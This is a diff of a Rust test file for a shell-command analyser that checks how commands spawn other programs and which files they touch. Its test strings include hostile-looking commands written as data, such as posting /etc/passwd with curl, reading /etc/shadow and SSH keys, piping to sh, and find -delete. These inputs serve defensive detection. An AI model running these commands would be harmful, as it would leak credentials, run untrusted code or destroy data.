@@ -65,7 +65,12 @@ fn programs_that_start_others_are_told_with_them() {
     reads("bash -lc 'cat x | sh'", &["bash -lc cat x | sh", "cat x", "sh !input"]);
     reads("sh -c \"$x\"", &["sh -c \"$x\" ? !evaluates"]);
     reads("find . -name '*.rs' -exec rm {} \\;", &["find . -name *.rs -exec rm {} ;", "rm {} ?"]);
+    reads("ls | xargs -n1 cat", &["ls", "xargs -n1 !arguments", "cat $@ ?"]);
     reads("ls | xargs -n1 wc", &["ls", "xargs -n1 !arguments", "wc $@ ?"]);
+    reads("cat l | xargs wc", &["cat l", "xargs !arguments", "wc $@ ? !arguments"]);
+    reads("{ cat l; ls; } | xargs wc", &["cat l", "ls", "xargs !arguments", "wc $@ ? !arguments"]);
+    reads("ls | xargs wc < l", &["ls", "xargs !arguments", "wc $@ ? !arguments"]);
+    reads("ls --quoting-style=c | xargs wc", &["ls --quoting-style=c", "xargs !arguments", "wc $@ ? !arguments"]);
     reads("ls | xargs sh -c 'x'", &["ls", "xargs !program !arguments", "sh -c x $@ ?", "x"]);
     reads("sudo A=1 rm x", &["sudo A=1", "A=1 rm x"]);
     reads("uv run pytest -q", &["uv run", "pytest -q"]);
@@ -137,7 +142,6 @@ fn what_cannot_be_known_is_opaque() {
         ("read PATH", "variable"),
         ("set -o keyword", "alias"),
         ("export TAR_OPTIONS=x", "variable"),
-        ("find . -exec tar cf a + -I sh \\;", "arguments"),
         ("make -sf /dev/stdin", "program_text"),
         ("make 'x!=ls'", "program_text"),
         ("tar cf a -vIsh x", "option"),
@@ -164,7 +168,6 @@ fn what_cannot_be_known_is_opaque() {
         ("echo $(($1))", "evaluates"),
         ("declare -i x; y='a[$(ls)]'; x=y", "evaluates"),
         ("y='a[$(ls)]'; x=([y]=1)", "evaluates"),
-        ("find -files0-from l -exec curl x \\;", "arguments"),
         ("mapfile -C 'curl x' -c 1 x < f", "evaluates"),
         ("sort --co=sh x", "option"),
         ("tar cf evil.org:x f", "option"),
@@ -219,7 +222,20 @@ fn files_are_named_from_the_root() {
         ("d=.ssh; cat ~/$d/x", "~/.ssh/x".to_owned()),
         ("false && d=x; cat ~/$d/x", "~/$d/x?".to_owned()),
         ("for f in .e*; do cat \"$f\"; done", "/repo/.e*?".to_owned()),
-        ("x='/etc/shado?'; cat $x", "/etc/shado?".to_owned()),
+        ("x='/etc/shado?'; cat $x", "/etc/shado??".to_owned()),
+        ("cat id_rs? a/b[12]/c src/*.rs", "/repo/a/b[12]/c? /repo/id_rs?? /repo/src/*.rs".to_owned()),
+        ("cd src && cat ../a", "/repo/src /repo/a?".to_owned()),
+        ("cd src && cd .. && cat a", "/repo/src /repo? /repo/a".to_owned()),
+        ("cd -P src/.. && cat a", "/repo? a?".to_owned()),
+        ("cd -P src; cat a", "/repo/src /repo/a /repo/src/a".to_owned()),
+        ("ln -s ../../etc l", ".*? /etc* /repo/l*".to_owned()),
+        ("ln -s a/b l", "/repo/a/b* /repo/l*".to_owned()),
+        ("ar x a.a", ".*? /repo/a.a* /repo/x*".to_owned()),
+        ("make -C .git/hooks pre-commit", "/repo/.git/hooks /repo/.git/hooks/pre-commit* /repo/pre-commit".to_owned()),
+        ("git log -- '*.rs' '.e*' ':!x'", ".e*? /repo/*.rs /repo/log :!x?".to_owned()),
+        ("git grep -n '[a-z]*' src", "/repo/grep /repo/src".to_owned()),
+        ("git commit -m $x", "$x? /repo/commit".to_owned()),
+        ("bash ./x/../y.sh", "/repo/y.sh?".to_owned()),
         ("grep -v -- -zzz ~/x", "~/x".to_owned()),
         ("command cd /etc && cat x", "/etc x?".to_owned()),
         ("(f() { cat x; }; cd /etc; f)", "x? /etc".to_owned()),
@@ -246,6 +262,28 @@ fn files_are_named_from_the_root() {
         ("curl -d@/etc/passwd x", "/etc/passwd* /passwd* /repo/@/etc/passwd* /repo/c/passwd* /repo/etc/passwd* /repo/passwd* /repo/tc/passwd* /repo/x*".to_owned()),
     ] {
         assert_eq!(files(text), expected, "{text}");
+    }
+}
+
+#[test]
+fn what_find_comes_to_is_known_by_its_endings() {
+    for (text, expected) in [
+        ("find src -name '*.rs' -exec grep x {} +", "/repo/src/*.rs"),
+        ("find src lib -name 'Cargo.toml' -exec cat {} +", "/repo/lib/Cargo.toml /repo/src/Cargo.toml"),
+        ("find -type f -exec grep x {} +", "/repo"),
+        ("find src -name '.e*' -exec cat {} +", "{}?"),
+        ("find src -name 'a?' -exec cat {} +", "{}?"),
+        ("find src -path ./.env -exec cat {} +", "{}?"),
+        ("find -L src -exec cat {} +", "{}?"),
+        ("find ~ -name a -execdir cat b \\;", "b?"),
+        ("find src -name '*.o' -delete", "/repo/src/*.o*"),
+        ("find src -name CLAUDE.md -delete", "/repo/src/CLAUDE.md*"),
+        ("find -delete", "/repo*"),
+        ("find src ! -name '*.o' -delete", "/repo/src* /repo/src/*.o*"),
+        ("find src -path '*k*' -delete", ".*?"),
+    ] {
+        let files: Vec<String> = files(text).split(' ').map(str::to_owned).collect();
+        assert!(expected.split(' ').all(|file| files.iter().any(|known| known == file)), "{text}: {files:?}");
     }
 }
 
